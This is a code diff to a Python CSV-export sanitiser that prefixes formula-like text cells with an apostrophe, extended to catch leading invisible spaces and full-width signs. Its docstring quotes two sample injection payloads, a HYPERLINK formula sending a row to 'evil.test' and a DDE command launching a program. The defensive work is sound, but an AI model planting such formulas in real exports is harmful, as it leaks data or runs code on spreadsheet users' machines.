@@ -4,7 +4,8 @@ Anchors, titles and URLs are anyone's text. A CSV export is mostly opened in a s
 Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
 tab or carriage return before one) as a formula: an anchor ``=HYPERLINK("https://evil.test/?"&A2,
 "Open")`` would send the row next to it away, ``=cmd|' /C calc'!A0`` would ask to run a program
-("CSV injection", OWASP). Every CSV linkback writes (the CLI's ``--format csv``, ``linkback export``,
+("CSV injection", OWASP). Whitespace, a no-break or zero-width space or a byte order mark before
+the sign, or its full-width form (``＝``), counts too. Every CSV linkback writes (the CLI's ``--format csv``, ``linkback export``,
 the API's export and the dashboard's downloads) puts a ``'`` before such a text cell, as OWASP
 advises; a spreadsheet shows the text as it was, with no formula run. A number written as text
 (``-3``, ``+12.5%``) is no formula and stays as it is, as does every non-text value. JSON, JSONL
@@ -16,20 +17,26 @@ from __future__ import annotations
 import re
 from typing import Any
 
-#: What a spreadsheet takes for the start of a formula (OWASP's list).
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-#: A number written as text: nothing a spreadsheet would run.
-_NUMBER = r"[+-]?(?:\d+(?:[.,]\d+)*|\.\d+)(?:[eE][+-]?\d+)?%?"
-_NUMBER_RE = re.compile(_NUMBER)
-#: The same test as :func:`cell`, as a regular expression (RE2 syntax, for Arrow's kernels).
-NEEDS_QUOTE = r"^[=+\-@\t\r]"
+#: What a spreadsheet takes for the start of a formula (OWASP's list), with their full-width
+#: forms, which some spreadsheets' input methods turn into the ASCII ones.
+FORMULA_STARTS = "=+@\t\r\uff1d\uff0b\uff0d\uff20-"
+#: What may come before it and still leave the cell a formula in some spreadsheet: whitespace,
+#: no-break and zero-width spaces, a byte order mark.
+_LEADING = "\t\n\v\f\r \u00a0\u1680\u2000-\u200b\u2028\u2029\u202f\u205f\u3000\ufeff"
+#: A number written as text (ASCII digits): nothing a spreadsheet would run.
+_NUMBER = r"[+-]?(?:[0-9]+(?:[.,][0-9]+)*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?%?"
+#: :func:`cell`'s tests as regular expressions, the characters written as themselves, which
+#: Python's engine and Arrow's (RE2) read alike (``-`` last in its class: no range).
+NEEDS_QUOTE = f"^[{_LEADING}]*[{FORMULA_STARTS}]"
 NUMBER = f"^{_NUMBER}$"
+_NEEDS_QUOTE_RE = re.compile(NEEDS_QUOTE)
+_NUMBER_RE = re.compile(NUMBER, re.ASCII)
 
 
 def cell(value: Any) -> Any:
     """``value`` as a CSV cell: a text a spreadsheet would run as a formula gets a ``'`` before
     it; anything else is returned as it is."""
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER_RE.fullmatch(value):
+    if isinstance(value, str) and _NEEDS_QUOTE_RE.match(value) and not _NUMBER_RE.match(value):
         return "'" + value
     return value
 
